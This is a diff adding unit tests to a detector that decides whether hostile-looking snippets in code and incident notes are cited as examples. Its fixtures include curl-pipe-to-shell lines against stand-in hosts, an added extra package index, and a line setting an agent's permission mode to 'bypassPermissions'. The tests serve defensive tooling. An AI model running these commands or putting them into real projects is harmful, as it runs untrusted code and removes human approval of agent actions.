@@ -206,6 +206,26 @@ describe('CitedCode', () => {
   const list = (name: string) =>
     `${name} = [\n    # from an incident write-up\n    "curl -s http://203.0.113.40/i.sh | sh",\n]\nos.system(cmd)`;
 
+  it('should cite a statement that only prints a markdown table row, not one written to a file', () => {
+    expect(cited('print(f"| {p} | defaultMode=bypassPermissions | no prompts |")', 'a.py')).toEqual([1]);
+    expect(cited('console.log(`| ${p} | curl x | sh | piped to a shell |`);', 'a.js')).toEqual([1]);
+    expect(cited('print(f"| {p} | defaultMode=bypassPermissions |", file=out)', 'a.py')).toEqual([0]);
+    expect(cited('echo "| a | defaultMode=bypassPermissions |" > ~/.claude/settings.md', 'a.sh')).toEqual([
+      0,
+    ]);
+    expect(cited('print(\'{"defaultMode": "bypassPermissions"}\')', 'a.py')).toEqual([0]);
+  });
+
+  it('should read 1 MiB of would-be table rows quickly', () => {
+    const MiB = 1024 * 1024;
+    for (const text of ['print("|' + '|'.repeat(MiB), 'print("|' + ' |'.repeat(MiB / 2) + '" > x']) {
+      const code = new CitedCode(text, 'a.py');
+      const t0 = performance.now();
+      code.isCited(0);
+      expect(performance.now() - t0).toBeLessThan(1000);
+    }
+  });
+
   it('should cite the items of a list of test cases or indicators written one per line', () => {
     expect(cited(list('TP'), 'scripts/check.py')).toEqual([0, 0, 1, 0, 0]);
     expect(cited(list('SHOULD_MATCH'), 'scripts/check.py')).toEqual([0, 0, 1, 0, 0]);
@@ -415,6 +435,18 @@ describe('citedLines (incident notes, timelines and remarks on samples)', () => 
     expect(block('The page to serve at `http://203.0.113.77/notes.html`:')).toBe(0);
   });
 
+  it('should cite the snippet a fix replaces with prose, not one replaced with code', () => {
+    expect(
+      flags(
+        'a concrete fix (e.g. "replace\n`--extra-index-url https://m.example/simple` with the virtual repo").',
+      ),
+    ).toEqual([0, 1]);
+    expect(flags('Replace `curl -s https://x.example/i | sh` by a pinned download.')).toEqual([1]);
+    expect(flags('Replace `npm ci` with `curl -s https://x.example/i | sh`.')).toEqual([0]);
+    expect(flags('Replace `npm ci` with curl -s https://x.example/i | sh')).toEqual([0]);
+    expect(flags('Add `--extra-index-url https://m.example/simple` to requirements.txt.')).toEqual([0]);
+  });
+
   it('should cite a diary entry that found something, and tool output on a sample', () => {
     expect(block('**Tue.** Found the cron for the jenkins user:')).toBe(1);
     expect(block('**Tue.** Install the cron for the jenkins user:')).toBe(0);
@@ -444,6 +476,7 @@ describe('citedLines (incident notes, timelines and remarks on samples)', () => 
     ['headings of patterns that got past', '## ' + 'patterns that got '.repeat(MiB / 18) + '\n`x`\n'],
     ['close-call labels', '**Close call' + ' x'.repeat(MiB / 2) + '\n'],
     ['bold diary days', '**Tue.** '.repeat(MiB / 9) + ':\n\n```\nx\n```\n'],
+    ['replace sentences', 'replace `x` with '.repeat(MiB / 17) + '\n`y`\n'],
     ['remarks under cited blocks', 'Bad:\n```\nx\n```\n`x` → y\n'.repeat(MiB / 22)],
   ];
   it.each(cases)('should answer 1 MiB of %s in under a second', (_name, text) => {
